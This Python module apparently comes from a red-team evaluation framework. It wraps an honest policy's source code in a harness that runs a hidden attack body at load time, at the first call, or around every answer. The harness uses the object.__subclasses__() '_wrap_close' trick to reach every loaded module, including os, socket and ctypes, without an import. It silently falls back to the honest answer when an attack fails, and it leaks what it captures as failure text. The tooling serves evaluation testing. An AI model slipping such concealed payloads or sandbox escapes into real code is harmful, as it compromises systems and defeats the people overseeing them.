"""How a payload is put around an honest policy, whatever the problem's signature is.

The honest source stays as it is and keeps its parameters. An attack is the body of a function: it
runs while the policy is loaded, at its first decision, or on every answer. What it returns is what
it got at: that comes back as the text of a failure, which every signature has. When it is refused
with an exception the honest answer is given, and nothing is seen of it.
"""

from __future__ import annotations

from typing import Literal

from evaluators.redteam.attack import Target

_HARNESS = '''
modules = next(
    found.__init__.__globals__["sys"].modules
    for found in object.__subclasses__() if found.__name__ == "_wrap_close"
)  # every module of the process, without an import
load = modules["builtins"].__import__


class Through(Exception):
    """What was got at."""


def scope():
    """The names that an attack may use."""
    found = {"modules": modules, "entry": entry}
    names = "os sys gc time signal mmap struct socket ctypes resource numpy random types threading"
    for name in names.split():
        try:
            found[name] = modules.get(name) or load(name)
        except ImportError:
            continue
    return found


def attempt(*arguments):
    try:
        got = attack(*arguments)
    except Exception:
        return
    if got:
        raise Through(str(got)[:500])


def changed(answer, fields):
    try:
        return attack(answer, fields)
    except Exception:
        return answer


def surround(owner, answered):
    """Put `answered` in the place of the entry."""
    raw = owner[entry] if owner is policy else vars(owner).get(entry) or getattr(owner, entry)
    honest = getattr(raw, "__func__", raw)

    def wrapper(*arguments, **fields):
        return answered(lambda: honest(*arguments, **fields), fields)

    modules["functools"].update_wrapper(wrapper, honest)
    if owner is policy:
        owner[entry] = wrapper
    else:
        kind = type(raw) if isinstance(raw, (staticmethod, classmethod)) else lambda f: f
        setattr(owner, entry, kind(wrapper))


def at_first_call(honest, fields, seen=[]):
    if not seen:
        seen.append(True)
        attempt()
    return honest()


def around_every_answer(honest, fields):
    return changed(honest(), fields)


space = scope()
exec(body, space)
attack = space["attack"]
owner = policy if entry in policy else next(
    v for v in list(policy.values())
    if isinstance(v, type) and v.__module__ == policy["__name__"] and hasattr(v, entry)
)
if moment == "load":
    attempt()
else:
    surround(owner, at_first_call if moment == "call" else around_every_answer)
'''


def at_load(target: Target, body: str) -> str:
    """A policy that attacks while it is loaded."""
    return _around(target, "load", body)


def at_call(target: Target, body: str) -> str:
    """A policy that attacks at its first decision."""
    return _around(target, "call", body)


def on_answer(target: Target, body: str) -> str:
    """A policy whose every answer is what the body makes of `answer` and `fields`."""
    return _around(target, "answer", body)


def _around(target: Target, moment: Literal["load", "call", "answer"], body: str) -> str:
    parameters = "answer, fields" if moment == "answer" else ""
    lines = body.strip("\n").splitlines()
    function = f"def attack({parameters}):\n" + "\n".join("    " + line for line in lines) + "\n"
    names = f"dict(policy=globals(), entry={target.problem.signature.entry!r}, moment={moment!r}"
    return f"{target.honest.source}\nexec({_HARNESS!r}, {names}, body={function!r}))\n"
